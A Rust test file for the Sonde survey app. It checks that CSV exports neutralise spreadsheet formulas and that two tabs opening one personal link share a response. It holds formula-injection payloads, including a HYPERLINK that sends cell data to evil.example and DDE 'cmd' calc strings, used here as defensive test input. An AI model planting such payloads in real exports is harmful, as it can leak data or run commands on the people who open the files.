//! What an attacker or an unlucky network could make Sonde do to a linked org and to the
//! people who read its exports: links whose data steers Salesforce writes, a hostile "org"
//! that points Sonde at an internal service, replies lost after a create, formula cells in
//! CSV exports, and two tabs racing for one personal link.

use crate::harness::{backends, TestApp};
use engine::Role;
use serde_json::{json, Value};

/// Every cell of a CSV export, rows of columns.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn exported_answers_never_become_spreadsheet_formulas() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let (admin, token) = app.org_user(Role::Admin).await;
        let id = app.sample_survey(&token).await;
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        for text in hostile {
            let r = app
                .post(&token, &format!("/api/v1/surveys/{id}/responses"))
                .json(&json!({
                    "answers": {"QID9": text},
                    "embeddedData": {"CaseId": text}
                }))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
        }
        let api = app
            .get(
                &token,
                &format!("/api/v1/surveys/{id}/responses?format=csv"),
            )
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        // The admin UI's export is the same document.
        let r = app
            .client
            .post(app.url("/login"))
            .form(&[
                ("email", admin.email.as_str()),
                ("password", "correct horse battery"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303);
        let ui = app
            .client
            .get(app.url(&format!("/surveys/{id}/export.csv")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for (name, text) in [("API", &api), ("UI", &ui)] {
            let rows = csv_rows(text);
            assert_eq!(rows.len(), 2 + hostile.len(), "{name}: {text}");
            let comments = rows[0].iter().position(|h| h == "Comments").unwrap();
            let case = rows[0].iter().position(|h| h == "CaseId").unwrap();
            let mut seen: Vec<&str> = Vec::new();
            for row in &rows[2..] {
                for cell in [&row[comments], &row[case]] {
                    assert!(
                        cell.starts_with('\''),
                        "{name} {backend:?}: {cell:?} would run as a formula"
                    );
                    seen.push(&cell[1..]);
                }
            }
            for h in hostile {
                assert!(seen.contains(&h), "{name}: {h:?} kept after the quote");
            }
        }
    }
}

#[tokio::test]
async fn two_tabs_opening_a_fresh_personal_link_share_one_response() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let (admin, token) = app.org_user(Role::Editor).await;
        let id = app.sample_survey(&token).await;
        for round in 0..5 {
            let (contact, _) = app
                .sonde
                .save_contact(
                    &admin,
                    &json!({"email": format!("tab{round}@example.com")}),
                    None,
                )
                .await
                .unwrap();
            let link: Value = app
                .post(&token, &format!("/api/v1/surveys/{id}/links"))
                .json(&json!({"contactId": contact.id}))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let url = link["url"].as_str().unwrap().to_string();
            // Two tabs: two clients without a shared cookie, at the same moment.
            let (a, b) = (reqwest::Client::new(), reqwest::Client::new());
            let (ra, rb) = tokio::join!(a.get(&url).send(), b.get(&url).send());
            let (ra, rb) = (ra.unwrap(), rb.unwrap());
            assert_eq!(
                (ra.status().as_u16(), rb.status().as_u16()),
                (200, 200),
                "{backend:?}"
            );
            let (pa, pb) = (ra.text().await.unwrap(), rb.text().await.unwrap());
            for page in [&pa, &pb] {
                assert!(
                    !page.contains("already completed"),
                    "{backend:?} round {round}: a fresh link said completed:\n{page}"
                );
            }
            let response_of = |page: &str| {
                let marker = "name=\"_response\" value=\"";
                let at = page.find(marker).expect("a survey page") + marker.len();
                page[at..].split('"').next().unwrap().to_string()
            };
            assert_eq!(
                response_of(&pa),
                response_of(&pb),
                "{backend:?}: one response"
            );
        }
        let (_, responses, _) = app
            .sonde
            .responses(&admin, &id, None, None, 100)
            .await
            .unwrap();
        assert_eq!(responses.len(), 5, "{backend:?}: one response per link");
    }
}
